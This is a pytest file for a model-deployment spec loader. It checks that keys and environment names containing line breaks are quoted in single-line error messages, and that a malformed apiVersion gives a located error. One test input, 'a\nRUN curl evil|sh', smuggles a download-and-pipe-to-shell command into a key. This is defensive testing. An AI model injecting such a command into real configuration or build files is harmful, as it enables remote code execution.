"""Loader bugs found by the hostile corpus and the property suite, fixed in spec/loader.py."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from modeldeploy.errors import SpecError
from modeldeploy.spec.loader import load_all_environments, load_spec

BASE = "apiVersion: modeldeploy/v1\nname: m\nmodel: {source: ./model}\ntarget: {kind: docker}\n"


def lines_of(path: Path, *, env: str | None = None, all_envs: bool = False) -> list[str]:
    with pytest.raises(SpecError) as info:
        load_all_environments(path) if all_envs else load_spec(path, env)
    return info.value.lines()


@pytest.mark.parametrize("key", ["a\nRUN curl evil|sh", "a\rb", "a\u2028b", "a\u0085b"])
@pytest.mark.parametrize("section", ["labels", "serving.env"])
def test_hostile_mapping_keys_are_quoted_in_messages(tmp_path: Path, key: str, section: str) -> None:
    """A key with a line break used to be printed raw, so one diagnostic became several output lines
    (and a crafted key could print a fake 'FILE:1:1: error: ...' line)."""
    p = tmp_path / "deploy.yaml"
    outer, _, inner = section.partition(".")
    body = {json.dumps(key): "v"}
    value = "{" + ", ".join(f"{k}: {v}" for k, v in body.items()) + "}"
    p.write_text(BASE + (f"{outer}: {{{inner}: {value}}}\n" if inner else f"{outer}: {value}\n"))
    lines = lines_of(p)
    assert len(lines) == 1 and not any(c in lines[0] for c in "\n\r\u2028\u0085"), lines
    assert repr(key) in lines[0]


def test_hostile_environment_names_are_quoted_in_messages(tmp_path: Path) -> None:
    p = tmp_path / "deploy.yaml"
    p.write_text(BASE + 'environments: {"a\\nb": 5, "c\\u2028d": {apiVersion: x}}\n')
    lines = lines_of(p, all_envs=True)
    assert all("\n" not in line and "\u2028" not in line for line in lines), lines
    assert any("environments.'a\\nb' must be a mapping" in line for line in lines)


@pytest.mark.parametrize("version", ["[]", "{a: 1}", "[modeldeploy/v1]"])
def test_unhashable_api_version_is_a_located_error(tmp_path: Path, version: str) -> None:
    """`apiVersion: []` used to raise TypeError (unhashable type) from the migration lookup."""
    p = tmp_path / "deploy.yaml"
    p.write_text(BASE.replace("apiVersion: modeldeploy/v1", f"apiVersion: {version}"))
    (line,) = lines_of(p)
    assert ":1:13: error: unsupported apiVersion" in line and "[MD105]" in line
